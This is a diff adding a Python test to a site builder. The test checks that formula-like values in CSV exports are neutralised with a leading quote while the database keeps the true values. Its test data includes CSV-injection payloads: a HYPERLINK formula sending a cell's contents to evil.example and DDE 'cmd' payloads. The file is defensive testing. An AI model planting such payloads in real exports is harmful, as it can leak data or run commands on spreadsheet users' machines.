@@ -15,7 +15,7 @@ from click.testing import CliRunner
 
 from site_builder.build.pipeline import BuildOptions, build
 from site_builder.cli import main
-from site_builder.site.formats.opendata import SCHEMA
+from site_builder.site.formats.opendata import SCHEMA, csv_cells
 from tests.conftest import REPO, database_contents
 
 HORMUZ = "eu-warns-extremely-dangerous-if-iran-closes-strait-of-hormuz"
@@ -152,3 +152,42 @@ def test_early_years_keep_four_digits_and_a_utc_before_the_year_1_is_empty(tmp_p
     with sqlite3.connect(site / "output/data/archive.sqlite") as connection:
         rows = dict(connection.execute("SELECT slug, date_utc FROM articles"))
     assert rows == {"early": "0999-06-01T07:30:00Z", "first": None}
+
+
+FORMULAS = {"title": "=HYPERLINK(\"https://evil.example/\"&A1,\"Click\")", "wire": "+cmd|'/C calc'!A0",
+            "dateline": "-2+3", "entity": "@SUM(1+1)*cmd|'/C calc'!A0"}
+
+
+def test_csv_cells_that_a_spreadsheet_would_run_as_formulas_are_neutralised(tmp_path: Path) -> None:
+    from tests.conftest import write_article
+    site = tmp_path / "site"
+    write_article(site, "formula.md", "---\n" + "\n".join([
+        f"title: '{FORMULAS['title']}'", "date: 2025-06-01T10:00:00+00:00", "source: Reuters",
+        f"wire: \"{FORMULAS['wire']}\"", f"dateline: '{FORMULAS['dateline']}'",
+        f"entities: [\"{FORMULAS['entity']}\", Iran]"]) + "\n---\nText.\n")
+    write_article(site, "plain.md", "---\ntitle: Plain\ndate: 2025-06-02\nsource: Reuters\n---\nOther text.\n")
+    build(site, BuildOptions(search=False, jobs=1))
+    data = site / "output/data"
+
+    def cells(path: Path) -> list[str]:
+        return [cell for row in csv.reader(io.StringIO(path.read_text(encoding="utf-8"), newline="")) for cell in row]
+    tables = {table.name: cells(data / table.csv_name) for table in SCHEMA}
+    code = CliRunner().invoke(main, ["export", "--site", str(site), "--format", "csv", "--output", str(tmp_path / "x")])
+    assert code.exit_code == 0, code.output
+    exported = {table.name: cells(tmp_path / "x" / table.csv_name) for table in SCHEMA}
+    for found in (tables, exported):
+        everything = [cell for table in found.values() for cell in table]
+        assert not [cell for cell in everything if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]
+        assert {f"'{FORMULAS[k]}" for k in ("title", "wire", "dateline")} <= set(found["articles"])
+        assert f"'{FORMULAS['title']}" in found["stories"]
+        assert f"'{FORMULAS['entity']}" in found["entities"]
+        assert f"'{FORMULAS['wire']}" in found["versions"]
+    with sqlite3.connect(data / "archive.sqlite") as db:          # the database keeps the true values
+        assert db.execute("SELECT title, wire, dateline FROM articles WHERE slug = 'formula'").fetchone() == (
+            FORMULAS["title"], FORMULAS["wire"], FORMULAS["dateline"])
+        assert db.execute("SELECT count(*) FROM entities WHERE name = ?", (FORMULAS["entity"],)).fetchone() == (1,)
+    listing = json.loads((data / "stories.json").read_text(encoding="utf-8"))
+    assert FORMULAS["title"] in [v["title"] for s in listing["stories"] for e in s["events"] for v in e["versions"]]
+    page = (data / "index.html").read_text(encoding="utf-8")
+    assert "single quote" in page
+    assert csv_cells(("\tx", "\rx", "a=b", -5, 0.5, None)) == ["'\tx", "'\rx", "a=b", -5, 0.5, None]
